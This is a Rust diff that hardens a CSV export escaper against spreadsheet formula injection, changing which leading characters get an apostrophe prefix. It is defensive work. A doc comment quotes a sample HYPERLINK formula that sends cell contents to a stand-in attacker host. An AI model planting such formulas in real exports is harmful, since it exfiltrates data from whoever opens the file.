@@ -12,24 +12,30 @@ pub trait Row {
     fn cells(&self) -> Vec<Cow<'_, str>>;
 }
 
-/// What makes a spreadsheet read a cell as a formula when it comes first: the four signs
-/// (and their full-width forms, which some spreadsheets fold to them), and the tab and line
-/// breaks that Excel skips before one.
-const FORMULA_START: &[char] = &[
-    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+/// The signs that make a spreadsheet read a cell as a formula when they come first, and their
+/// full-width forms, which some spreadsheets fold to them.
+const FORMULA_SIGNS: &[char] = &[
+    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
 ];
 
 /// A cell no spreadsheet runs. Senders and subjects come from anyone who can send mail, tags
 /// and notes from any vend token: a subject `=HYPERLINK("https://evil.example/?"&A1, "Open")`
 /// would otherwise run on the admin's machine when they open the export (CSV injection).
-/// A cell that starts like a formula, even after spaces, gets a leading apostrophe, which
-/// spreadsheets take as "this is text" and do not show; a program reading the file sees it
-/// and can strip it (docs/api.md says so).
+/// A cell gets a leading apostrophe, which spreadsheets take as "this is text" and do not
+/// show, when it starts with a tab or a line break (OWASP's list), or when its first
+/// character after any white space (a no-break space, a byte-order mark…, which an import
+/// may trim) is one of the signs. A program reading the file sees the apostrophe and can
+/// strip it (docs/api.md says so).
 pub fn safe_cell(cell: &str) -> Cow<'_, str> {
-    let first = cell.trim_start_matches(' ').chars().next();
-    match first {
-        Some(c) if FORMULA_START.contains(&c) => Cow::Owned(format!("'{cell}")),
-        _ => Cow::Borrowed(cell),
+    let control = cell.starts_with(['\t', '\r', '\n']);
+    let first = cell
+        .trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}')
+        .chars()
+        .next();
+    if control || first.is_some_and(|c| FORMULA_SIGNS.contains(&c)) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
     }
 }
 
